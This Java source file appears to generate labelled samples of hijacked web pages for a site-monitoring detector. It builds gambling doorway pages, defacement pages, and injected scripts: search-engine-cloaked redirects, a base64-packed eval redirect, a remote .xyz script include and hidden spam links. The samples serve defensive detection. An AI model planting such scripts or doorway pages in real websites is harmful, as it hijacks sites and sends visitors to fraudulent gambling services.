package id.jagasitus.watch;

import id.jagasitus.watch.InjectedPages.Sample;
import java.util.List;
import java.util.Random;

/** Pages that serve somebody else: doorways, redirecting scripts, defacements. */
final class TakenPages extends Hijack {

  TakenPages(Random random) {
    super(random);
  }

  @Override
  void add(List<Sample> to) {
    doorways(to);
    scripts(to);
    defaced(to);
  }

  private void doorways(List<Sample> to) {
    String brand = one(BRANDS).toUpperCase(java.util.Locale.ROOT);
    add(
        to,
        "doorway",
        "<html ⚡ lang=id><head><title>"
            + brand
            + " : Link "
            + one(STRONG)
            + "</title><link rel=canonical href='https://"
            + one(HOSTS)
            + "/'><link rel=amphtml href='https://amp-"
            + one(HOSTS)
            + "/'><meta name=description content='"
            + one(STRONG)
            + "'></head><body><h1>"
            + brand
            + "</h1><p>"
            + one(STRONG)
            + " "
            + one(STRONG)
            + "</p><a href='https://"
            + one(HOSTS)
            + "/'>DAFTAR</a></body></html>");
    add(
        to,
        "doorway own canonical",
        "<html><head><title>"
            + brand
            + " Situs Resmi Terpercaya | Login &amp; Daftar</title><link rel=canonical"
            + " href='https://pn-contoh.go.id/app/?tunnel="
            + brand
            + "'></head><body><h1>"
            + brand
            + "</h1><p>"
            + brand
            + " adalah situs terpercaya dengan link alternatif. "
            + brand
            + " gampang menang, deposit cepat, withdraw cepat. Main di "
            + brand
            + " sekarang. Link login "
            + brand
            + ".</p><a href='https://"
            + one(HOSTS)
            + "/go'>LOGIN</a></body></html>");
    add(
        to,
        "doorway legal filler",
        "<html><head><title>"
            + one(STRONG)
            + " - "
            + brand
            + "</title></head><body><h1>"
            + one(STRONG)
            + "</h1><p>Menurut Pasal 303 KUHP dan Pasal 27 ayat (2) UU ITE, terdakwa perjudian diancam pidana penjara oleh majelis hakim"
            + " berdasarkan dakwaan penuntut umum dan barang bukti. "
            + one(STRONG)
            + " "
            + one(STRONG)
            + "</p><a href='https://"
            + one(HOSTS)
            + "/'>Daftar "
            + one(STRONG)
            + "</a></body></html>");
    add(
        to,
        "doorway rating",
        "<html><head><title>"
            + brand
            + " | "
            + one(STRONG)
            + "</title><script type='application/ld+json'>{\"@type\":"
            + "\"Product\",\"name\":\""
            + brand
            + "\",\"description\":\""
            + one(STRONG)
            + "\",\"aggregateRating\":{\"ratingValue\":\"4.9\"}}</script>"
            + "</head><body><p>Rp 10.000 minimal deposit</p></body></html>");
    add(
        to,
        "doorway english",
        "<html><head><title>Best Online Casino and Slot Machine Bonus</title></head><body><h1>Online Casino</h1><p>Play"
            + " online slots, free spins, sports betting, live dealer blackjack and roulette. No deposit bonus.</p><a href='https://"
            + one(HOSTS)
            + "/'>Play now</a></body></html>");
    add(
        to,
        "doorway thai",
        "<html lang=th><head><title>สล็อตเว็บตรง แตกง่าย บาคาร่า</title></head><body><h1>สล็อต</h1><p>คาสิโนออนไลน์ เว็บสล็อต"
            + " แทงบอลออนไลน์ สล็อตเว็บตรง</p><a href='https://"
            + one(HOSTS)
            + "/'>สมัคร</a></body></html>");
    add(
        to,
        "doorway chinese",
        "<html lang=zh><head><title>在线赌场 百家乐 老虎机</title></head><body><p>博彩 娱乐城 真人百家乐 澳门赌场</p><a href='https://"
            + one(HOSTS)
            + "/'>注册</a></body></html>");
  }

  private void scripts(List<Sample> to) {
    String target = "https://" + one(BRANDS) + ".xyz/";
    String packed =
        java.util.Base64.getEncoder()
            .encodeToString(
                ("location.href='" + target + "'//" + one(STRONG))
                    .getBytes(java.nio.charset.StandardCharsets.UTF_8));
    add(
        to,
        "script referrer",
        page(
            "<script>if(document.referrer.match(/google|bing/)){window.location.replace('"
                + target
                + "')}</script>",
            "",
            ""));
    add(
        to,
        "script agent",
        page(
            "<script>var b=/Googlebot|bingbot/i;if(b.test(navigator.userAgent)){fetch('"
                + target
                + "').then(r=>r.text()).then(t=>document.write(t))}</script>",
            "",
            ""));
    add(to, "script packed", page("", "<script>eval(atob('" + packed + "'))</script>", ""));
    add(
        to,
        "script foreign",
        page("<script src='https://" + one(BRANDS) + ".xyz/a.js'></script>", "", ""));
    add(
        to,
        "script moves",
        page("", "<script>window.top.location.href = \"" + target + "\";</script>", ""));
    add(
        to,
        "script writes",
        page(
            "",
            "<script>document.write('<div style=\"display:none\"><a href=\""
                + target
                + "\">"
                + one(STRONG)
                + "</a></div>')</script>",
            ""));
    add(
        to,
        "script unhides",
        page(
            "",
            "<div id=q>"
                + links(3, STRONG)
                + "</div><script>document.getElementById('q').style.display='none';</script>",
            ""));
  }

  private void defaced(List<Sample> to) {
    String slogan =
        one(
            "Hacked by X-Team",
            "H4CKED BY anon",
            "Defaced by KucingLiar",
            "Owned By R00t",
            "Pwned by Mr.Z",
            "Touched by N00b",
            "Your security is low",
            "Indonesian Cyber Team was here",
            "Security is just an illusion",
            "Diretas oleh Tim Sakit Hati",
            "Website ini telah diretas");
    add(
        to,
        "defaced " + slogan,
        "<html><head><title>"
            + slogan
            + "</title></head><body bgcolor=black><center><h1>"
            + slogan
            + "</h1><p>Greetz to all</p></center></body></html>");
    add(
        to,
        "defaced body " + slogan,
        "<html><head><title>Pengadilan</title></head><body><center><img src=a.gif><p>"
            + slogan
            + "</p></center></body></html>");
  }
}
